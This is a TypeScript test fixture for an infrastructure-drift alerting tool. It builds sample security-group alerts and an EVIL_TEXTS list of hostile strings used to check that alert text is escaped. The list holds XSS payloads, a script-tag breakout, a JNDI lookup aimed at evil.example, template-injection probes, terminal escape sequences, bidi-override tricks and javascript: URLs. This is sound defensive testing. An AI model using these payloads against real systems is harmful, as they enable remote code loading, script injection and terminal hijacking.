/** Messages for tests: one as it comes, and one whose every text was written by somebody who wants more than to be read. */
import type { Classification } from "../../domain/classification.ts";
import type { AlertDrift, AlertMessage } from "./message.ts";

export function classification(given: Partial<Classification> = {}): Classification {
  return {
    class: "security",
    severity: "critical",
    isComplete: true,
    problems: [],
    rules: [
      {
        id: "aws.security_group.open_to_world",
        title: "A security group lets in the whole Internet",
        origin: "builtin",
        class: "security",
        severity: "high",
        explanation: "eve opened port 22 of aws_security_group.web to the whole Internet.",
        values: [{ expression: "changes[0].element.from_port", value: 22 }],
        controls: ["CIS AWS 3.0.0 5.2", "PCI DSS 4.0.1 1.3.1"],
        remedy: { strategy: "rollback", text: "Take the rule back." },
      },
    ],
    adjustments: [
      {
        id: "production",
        origin: "operator",
        from: "high",
        to: "critical",
        because: "This is production.",
        values: [],
      },
    ],
    policy: "sha256:0",
    ...given,
  };
}

export function alertDrift(given: Partial<AlertDrift> = {}): AlertDrift {
  return {
    id: "0197-drift-1",
    stack: { id: "stack-1", name: "network", labels: { env: "prod", team: "payments" } },
    address: "aws_security_group.web",
    type: "aws_security_group",
    verdict: "changed",
    status: "open",
    source: {
      file: "infra/main.tf",
      line: 12,
      url: "https://forge.example/infra/blob/abc/infra/main.tf#L12",
    },
    consoleUrl:
      "https://eu-west-1.console.aws.amazon.com/ec2/home?region=eu-west-1#SecurityGroup:groupId=sg-1",
    diff: ['+ ingress  live only  {"from_port":22}', "~ master_password  differs (sensitive, not shown)"],
    who: {
      name: "eve",
      principal: "arn:aws:iam::123456789012:user/eve",
      channel: "console",
      address: "198.51.100.7",
    },
    when: new Date("2026-01-02T03:04:05.678Z"),
    event: "AuthorizeSecurityGroupIngress",
    classification: classification(),
    entryId: "entry-1",
    ...given,
  };
}

export function alertMessage(given: Partial<AlertMessage> = {}): AlertMessage {
  const drifts = given.drifts ?? [alertDrift()];
  return {
    id: "0197-alert-1",
    status: "open",
    severity: "critical",
    class: "security",
    title: "A security group lets in the whole Internet: aws_security_group.web in network",
    drifts,
    total: drifts.length,
    open: drifts.length,
    openedAt: new Date("2026-01-02T03:04:05.678Z"),
    updatedAt: new Date("2026-01-02T03:04:06.000Z"),
    actions: [
      {
        kind: "open",
        label: "Open in Anchorwatch",
        url: "https://anchorwatch.example.com/api/v1/drifts/0197-drift-1",
        isCallback: false,
      },
      { kind: "acknowledge", label: "Acknowledge", isCallback: true },
    ],
    ...given,
  };
}

/** Words that are more than words where a channel has markup, terminals escapes, or readers eyes. */
export const EVIL_TEXTS: readonly string[] = [
  "@everyone @channel @here",
  "<!channel> <!here> <@U123>",
  "<at>everyone</at>",
  "<https://evil.example|click>",
  "[click](https://evil.example)",
  "![pixel](https://evil.example/pixel.png)",
  "<img src=https://evil.example/x onerror=alert(1)>",
  "</code></pre><script>alert(1)</script>",
  "**bold** _it_ ~~gone~~ # head",
  "`` ` ``` `````",
  "```\n@everyone\n```",
  "line\r\nanother: header\n\n# Resolved",
  "\u202egro.live//:sptth\u202c\u2066x\u2069",
  "zero\u200bwidth\u00a0space\ufeff",
  "\u001b[2J\u001b]0;owned\u0007\u009b31m",
  "{{DATE(2020-01-01T00:00:00Z,SHORT)}} ${jndi:ldap://evil.example} {{7*7}}",
  "closes #1, fixes owner/repo#2 GH-3 !4 &5 ~bug %milestone /close",
  "javascript:alert(1) https://evil.example",
  "\u2028\u2029\ud800",
  "__proto__",
];

/** Every text that comes from outside is this one. */
export function hostileMessage(evil: string): AlertMessage {
  const given = classification();
  return alertMessage({
    title: evil,
    cause: evil,
    acknowledgedBy: evil,
    status: "acknowledged",
    drifts: [
      alertDrift({
        stack: { id: evil, name: evil, labels: { [evil]: evil } },
        address: evil,
        source: { file: evil, line: 1, url: `https://forge.example/${evil}` },
        consoleUrl: evil,
        diff: [`+ ${evil}`, `- ${evil}`],
        who: { name: evil, principal: evil, channel: evil, address: evil },
        event: evil,
        classification: {
          ...given,
          rules: given.rules.map((rule) => ({ ...rule, explanation: evil, controls: [evil] })),
          adjustments: given.adjustments.map((adjustment) => ({ ...adjustment, because: evil })),
        },
      }),
    ],
    actions: [
      {
        kind: "open",
        label: "Open",
        url: `https://anchorwatch.example.com/api/v1/drifts/${evil}`,
        isCallback: false,
      },
      { kind: "open", label: "Never", url: "javascript:alert(1)", isCallback: false },
    ],
  });
}
